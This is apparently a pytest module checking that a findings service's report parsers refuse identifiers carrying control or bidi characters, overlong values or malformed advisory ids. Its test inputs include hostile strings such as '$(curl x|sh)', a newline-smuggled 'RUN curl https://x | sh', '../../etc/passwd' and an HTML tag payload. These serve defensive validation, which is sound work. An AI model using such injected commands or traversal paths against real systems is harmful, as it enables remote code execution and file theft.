"""Class 1, at the parser boundary: a finding whose identifiers carry control, separator,
bidi or zero-width characters, absurd lengths or an id of no advisory shape is refused,
the rest of the report is ingested, the refusal is shown, and a refused finding is never
evidence that closes one."""

from __future__ import annotations

import json
import os
import unicodedata
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from findings.models import Delivery, Finding, Scan, Vulnerability
from findings.parsers import ParseError, parse_all
from findings.parsers.images import try_image_reference
from findings.parsers.screen import REFUSAL_EXAMPLES
from remediator.core.textsafe import UNSAFE, codepoint, escape_unsafe, first_unsafe
from remediator.intake.receive import delivery_process as delivery_run
from tests.api.conftest import viewer

from ._text_support import CLEAN, FIELDS, FORMATS, IMAGE, NO_SLOT, body, finding, report

CHARACTERS = [
    "\x00", "\x01", "\t", "\n", "\x0b", "\x0c", "\r", "\x1b", "\x1f", "\x7f", "\x85", "\x9b",
    "\u00ad", "\u061c", "\u180e", "\u200b", "\u200d", "\u200e", "\u2028", "\u2029", "\u202a",
    "\u202e", "\u2060", "\u2066", "\u2069", "\ufeff", "\U000e0041",
]  # fmt: skip
"""C0 (NUL, tab, line feed, ESC ...), DEL, C1 (NEL, CSI), soft hyphen, Arabic letter mark,
zero-width characters, LRM, line and paragraph separators, bidi embeddings, overrides
and isolates, word joiner, BOM, a Unicode tag character."""
IDENTIFIERS = ("id", "package", "version", "fixed", "type", "location")


def _cases():
    for fmt in FORMATS:
        for field in IDENTIFIERS:
            if field in NO_SLOT.get(fmt, ()):
                continue
            for char in CHARACTERS:
                yield pytest.param(fmt, field, char, id=f"{fmt}-{field}-{codepoint(char)}")


def _injected(field: str, char: str) -> dict:
    middle = len(CLEAN[field]) // 2  # not at an end: the parsers strip whitespace there
    value = f"{CLEAN[field][:middle]}{char}{CLEAN[field][middle:]}"
    if field == "id":
        return finding(id=value.replace("0001", "0002"))
    return finding(**{field: value})


def _normalised(fmt: str, field: str, char: str) -> bool:
    """Where the parsers remove the character instead: NUL is dropped from all report text
    (real Grype reports hold NUL inside Java versions, tests/fixtures/grype), and Aqua's
    free-text fix_version is read as whitespace-separated versions."""
    return char == "\x00" or (fmt == "aqua" and field == "fixed" and char.isspace())


def _identifiers(parsed) -> list[str]:
    return [
        parsed.vulnerability_id, parsed.package, parsed.installed_version,
        parsed.package_type, *parsed.fixed_versions, *parsed.locations,
    ]  # fmt: skip


@pytest.mark.parametrize(("fmt", "field", "char"), list(_cases()))
def test_a_control_character_in_any_identifier_of_any_format_refuses_that_finding(fmt, field, char):
    [scan] = parse_all(fmt, report(fmt, CLEAN, _injected(field, char)))

    ids = [f.vulnerability_id for f in scan.findings]
    assert CLEAN["id"] in ids  # the rest of the report is kept
    for parsed in scan.findings:
        assert all(first_unsafe(value) is None for value in _identifiers(parsed)), parsed
    if _normalised(fmt, field, char):
        assert (scan.refused, len(scan.findings)) == (0, 2)
        return
    assert (scan.refused, ids) == (1, [CLEAN["id"]])
    [reason] = scan.refusals
    assert f'{FIELDS[field]} "' in reason and codepoint(char) in reason
    assert first_unsafe(reason) is None and escape_unsafe(char) in reason


def test_every_control_format_and_separator_character_is_refused_in_a_package_name():
    every = [chr(n) for n in range(0x110000) if not 0xD800 <= n <= 0xDFFF]
    unsafe = [c for c in every if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
    unsafe.remove("\x00")  # dropped by the parsers, see _normalised
    assert len(unsafe) > 150
    findings = [finding(id=f"CVE-2024-{n:05d}", package=f"a{c}b") for n, c in enumerate(unsafe)]

    [scan] = parse_all("generic", report("generic", CLEAN, *findings))

    assert [f.vulnerability_id for f in scan.findings] == [CLEAN["id"]]
    assert scan.refused == len(unsafe) and len(scan.refusals) == REFUSAL_EXAMPLES
    assert all(UNSAFE.fullmatch(c) for c in unsafe)


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=40), st.sampled_from(IDENTIFIERS))
def test_no_stored_identifier_ever_holds_an_unsafe_character(value, field):
    """Whatever text a report puts in an identifier: refused, or kept without one."""
    [scan] = parse_all("generic", report("generic", CLEAN, finding(**{field: value})))

    for parsed in scan.findings:
        assert all(first_unsafe(v) is None for v in _identifiers(parsed))
    assert scan.refused + len(scan.findings) in (1, 2)


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("id", "C" * 101, "is 101 characters long (at most 100)"),
        ("id", "CVE 2024 1", "is not an advisory id"),
        ("id", '"><img src=x>', "is not an advisory id"),
        ("id", "../../etc/passwd", "is not an advisory id"),
        ("id", "$(curl x|sh)", "is not an advisory id"),
        ("package", "p" * 301, "is 301 characters long (at most 300)"),
        ("version", "1" * 201, "is 201 characters long (at most 200)"),
        ("fixed", "2" * 201, "is 201 characters long (at most 200)"),
        ("type", "t" * 33, "is 33 characters long (at most 32)"),
        ("location", "/" + "d/" * 2048, "is 4097 characters long (at most 4096)"),
    ],
)
def test_absurd_lengths_and_ids_of_no_advisory_shape_are_refused(field, value, says):
    [scan] = parse_all("trivy", report("trivy", CLEAN, finding(**{field: value})))

    assert scan.refused == 1 and says in scan.refusals[0]
    assert len(scan.refusals[0]) < 200  # the value is shown cut, not whole


@pytest.mark.parametrize(
    "advisory",
    [
        "CVE-2024-3094", "GHSA-jfh8-c2jp-5v3q", "RHSA-2024:1234", "openSUSE-SU-2024:0001-1",
        "TEMP-0841856-B18BAF", "SNYK-JS-LODASH-567746", "ALASKERNEL-5.10-2022-001",
        "npm:lodash:20180130", "GO-2022-0969", "PYSEC-2021-1", "DLA-3000-1",
    ],
)  # fmt: skip
def test_real_advisory_ids_pass(advisory):
    [scan] = parse_all("generic", report("generic", finding(id=advisory)))
    assert scan.refused == 0 and scan.findings[0].vulnerability_id == advisory


def test_every_real_report_fixture_parses_with_nothing_refused():
    from tests.parsers.conftest import FIXTURES, report_fixtures

    for path in report_fixtures():
        try:
            scans = parse_all(path.parent.name, json.loads(path.read_bytes()))
        except ParseError:  # Harbor's webhook events are no reports
            continue
        assert all(scan.refused == 0 for scan in scans), path.relative_to(FIXTURES)


@pytest.mark.parametrize("char", ["\n", "\r", "\t", "\x1b", "\u202e", "\u200b", "\x00", "\x85"])
@pytest.mark.parametrize(
    "template",
    ["registry.example{}.com/shop/api:1", "shop/a{}pi:1", "shop/api:1{}x", "shop/api@sha256:{}"],
)
def test_image_references_with_control_characters_are_refused(template, char):
    digest = "a" * 32 + char + "a" * 32
    reference = template.format(digest if "sha256" in template else char)

    assert try_image_reference(reference) is None


# --- ingested: the rest is stored, the refusal is visible, and it closes nothing

WEBHOOK = "/api/v1/webhooks/{}/"
INJECTED = finding(package="openssl\nFROM alpine AS x\nRUN curl https://x | sh")


@pytest.fixture
def secret(monkeypatch):
    for name in list(os.environ):
        if name.startswith("WEBHOOK_SECRET"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("WEBHOOK_SECRET", "trust-secret")
    return "trust-secret"


def post(client, fmt: str, payload: bytes, secret: str, image: str = ""):
    url = WEBHOOK.format(fmt) + (f"?image={image}" if image else "")
    return client.generic(
        "POST", url, payload, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}"
    )


def processed(response) -> Delivery:
    assert response.status_code == 202, response.content
    delivery = Delivery.objects.get(pk=response.json()["delivery"])
    delivery_run(delivery=delivery)
    delivery.refresh_from_db()
    assert delivery.status == "processed", delivery.error
    return delivery


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_report_with_a_crafted_package_is_ingested_without_it_and_says_so(client, secret, fmt):
    image = IMAGE if fmt == "harbor" else ""
    delivery = processed(post(client, fmt, body(fmt, CLEAN, INJECTED), secret, image))

    assert list(Finding.objects.values_list("vulnerability_id", flat=True)) == [CLEAN["id"]]
    assert delivery.refused == 1
    assert delivery.refusals == [
        'CVE-2024-0002: package "openssl\\nFROM alpine AS x\\nRUN curl https:…" has a '
        "control character U+000A"
    ]
    assert Scan.objects.get().refused == 1
    assert not Vulnerability.objects.filter(pk="CVE-2024-0002").exists()


@pytest.mark.django_db
def test_the_refusal_is_on_the_delivery_page_the_api_and_the_ingest_command(
    client, secret, tmp_path, capsys
):
    delivery = processed(post(client, "trivy", body("trivy", CLEAN, INJECTED), secret))
    reader = viewer("refusal-reader")  # a Viewer: reads deliveries, is not staff
    api = APIClient()
    api.force_authenticate(reader)
    client.force_login(reader)

    detail = api.get(f"/api/v1/deliveries/{delivery.pk}/").json()
    [listed] = api.get("/api/v1/deliveries/").json()["results"]
    page = client.get(f"/deliveries/{delivery.pk}/").content.decode()

    assert detail["refused"] == listed["refused"] == 1
    assert detail["refusals"] == listed["refusals"] == delivery.refusals
    assert not {"body_preview", "body_truncated", "headers"} & set(detail)  # staff only
    assert "Refused findings" in page and "openssl\\nFROM alpine AS x" in page
    assert "openssl\nFROM" not in page

    report_file = tmp_path / "report.json"
    report_file.write_bytes(body("generic", CLEAN, INJECTED, finding(id="CVE-2024-0003")))
    call_command("ingest", str(report_file), "--source", "generic")
    line = json.loads(capsys.readouterr().out.strip())
    assert (line["refused"], line["findings"]) == (1, 2)
    assert "U+000A" in line["refusals"][0]


def _finding_status(vuln: str) -> str:
    return Finding.objects.get(vulnerability_id=vuln).status


@pytest.mark.django_db
def test_a_scan_with_a_refused_finding_closes_nothing_it_does_not_list(client, secret):
    """CVE-A was listed; the next scan lists only CVE-B and a refused finding, which may be
    CVE-A under a crafted name: CVE-A stays open. The next complete scan closes it."""
    cve_a, cve_b = finding(id="CVE-2024-1000"), finding(id="CVE-2024-2000", package="zlib")
    crafted = finding(id="CVE-2024-1000", package="open\u202essl")
    processed(post(client, "trivy", body("trivy", cve_a, cve_b), secret))

    partial = processed(post(client, "trivy", body("trivy", cve_b, crafted), secret))

    assert partial.refused == 1
    assert (_finding_status("CVE-2024-1000"), _finding_status("CVE-2024-2000")) == (
        "open",
        "open",
    )
    processed(post(client, "trivy", body("trivy", cve_b), secret))
    assert _finding_status("CVE-2024-1000") == "fixed"


@pytest.mark.django_db
def test_a_report_whose_findings_are_all_refused_is_a_scan_that_closes_nothing(client, secret):
    processed(post(client, "grype", body("grype", CLEAN), secret))

    delivery = processed(
        post(client, "grype", body("grype", finding(id="CVE-2024-0001\u2028x")), secret)
    )

    scan = Scan.objects.get(delivery=delivery)
    assert (scan.findings_count, scan.refused, delivery.refused) == (0, 1, 1)
    assert _finding_status(CLEAN["id"]) == "open"


@pytest.mark.django_db
def test_nul_and_other_text_postgresql_refuses_is_stripped_from_every_text_column(client, secret):
    """A NUL posted as \\u0000 in every text field of a Trivy report: 202, processed, and
    no column holds a NUL (PostgreSQL refuses NUL in text and jsonb)."""
    document = report("trivy", finding(id="CVE-2024-0009"))
    document["ReportID"] = "r\u0000id"
    document["Trivy"] = {"Version": "0.50\u0000.1"}
    document["Metadata"]["OS"] = {"Family": "alpine", "Name": "3.19\u0000.1"}
    vuln = document["Results"][0]["Vulnerabilities"][0]
    vuln.update(
        Title="a\u0000title",
        Description="a\u0000description\nover lines",
        Status="fi\u0000xed",
        PrimaryURL="https://example.com/\u0000x",
        References=["https://example.org/a\u0000b"],
        CVSS={"nvd": {"V3Vector": "CVSS:3.1/AV:N\u0000", "V3Score": 9.8}},
        PkgName="open\u0000ssl",
        InstalledVersion="3.0\u0000.1",
        FixedVersion="3.0.2\u0000,3.1.0",
        PkgPath="usr/lib\u0000/libssl.so",
    )

    delivery = processed(post(client, "trivy", json.dumps(document).encode(), secret))

    stored = [
        *Finding.objects.values_list(
            "package", "installed_version", "fixed_version", "vendor_status", "locations"
        ),
        *Vulnerability.objects.values_list("id", "title", "description", "cvss_vector", "links"),
        *Scan.objects.values_list("scanner", "scanner_key", "os", "scanner_scan_id"),
    ]
    assert "\x00" not in json.dumps(stored) and "\\u0000" not in json.dumps(stored)
    assert delivery.refused == 0
    vulnerability = Vulnerability.objects.get()
    assert (vulnerability.title, vulnerability.description) == (
        "atitle",
        "adescription\nover lines",  # free text keeps its line breaks: it is data
    )
    assert Finding.objects.get().package == "openssl"


# --- the probes of tests/fixtures/bad/report_fields.tsv, each through the webhook

CORPUS = Path(__file__).resolve().parents[1] / "fixtures" / "bad" / "report_fields.tsv"
STORED_AS = {
    "id": "vulnerability_id",
    "package": "package",
    "version": "installed_version",
    "fixed": "fixed_version",
    "type": "package_type",
    "location": "locations",
}


def _value(spelled: str) -> str:
    if spelled.startswith("repeat:"):
        _, text, times = spelled.rsplit(":", 2) if spelled.count(":") > 2 else spelled.split(":")
        return text * int(times)
    return json.loads(spelled)


def report_field_probes() -> list:
    rows = []
    for line in CORPUS.read_text().splitlines():
        if line.startswith("#") or not line.strip():
            continue
        fmt, field, value, outcome, expected, tries = line.split("\t")
        rows.append(pytest.param(fmt, field, _value(value), outcome, expected, id=tries))
    return rows


@pytest.mark.django_db
@pytest.mark.parametrize(("fmt", "field", "value", "outcome", "expected"), report_field_probes())
def test_each_crafted_report_field_is_refused_or_kept_as_the_corpus_says(
    client, secret, fmt, field, value, outcome, expected
):
    crafted = finding(**{field: value}) if field != "id" else finding(id=value)
    image = IMAGE if fmt == "harbor" else ""

    delivery = processed(post(client, fmt, body(fmt, CLEAN, crafted), secret, image))

    assert Finding.objects.filter(vulnerability_id=CLEAN["id"]).exists()
    if outcome == "refused":
        assert delivery.refused == 1 and Finding.objects.count() == 1, delivery.refusals
        assert expected in delivery.refusals[0], delivery.refusals
        assert first_unsafe(delivery.refusals[0]) is None
        return
    assert delivery.refused == 0, delivery.refusals
    stored = Finding.objects.exclude(vulnerability_id=CLEAN["id"]).values_list(
        STORED_AS[field], flat=True
    )
    assert list(stored) == [expected]
